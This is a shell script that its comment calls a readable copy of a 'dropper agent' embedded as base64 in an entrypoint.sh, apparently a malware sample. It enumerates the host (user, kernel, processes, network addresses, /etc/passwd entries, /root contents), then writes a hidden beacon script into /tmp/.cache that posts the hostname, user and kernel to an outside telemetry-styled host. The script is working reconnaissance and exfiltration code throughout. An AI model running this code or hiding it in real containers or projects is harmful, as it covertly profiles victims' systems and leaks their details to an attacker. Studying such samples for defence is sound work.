#!/bin/sh
# The r-dropper agent (embedded base64 in entrypoint.sh; this copy is for reading only).
# Discovery, then a beacon helper written next to it and run by sh, which reports home twice.
echo "[agent] running as $(id -un) on $(hostname)"
uname -a
id
cat /etc/os-release | head -n 2
ps -eo pid,user,comm | head -n 20
ip -o addr show 2>/dev/null || true
cut -d: -f1,3 /etc/passwd | head -n 10
ls -la /root 2>/dev/null | head -n 5
mkdir -p /tmp/.cache
cat >/tmp/.cache/beacon.sh <<'BEACON'
#!/bin/sh
host=$(hostname); user=$(id -un); kernel=$(uname -r)
for n in 1 2; do
	curl -s -m 4 -o /dev/null -A 'agent/1.0' -X POST \
		--data "id=$host&user=$user&kernel=$kernel&n=$n" \
		http://telemetry.example-cdn.test/v1/beacon || echo "[agent] beacon $n failed"
	sleep 1
done
BEACON
sh /tmp/.cache/beacon.sh
echo "[agent] done"
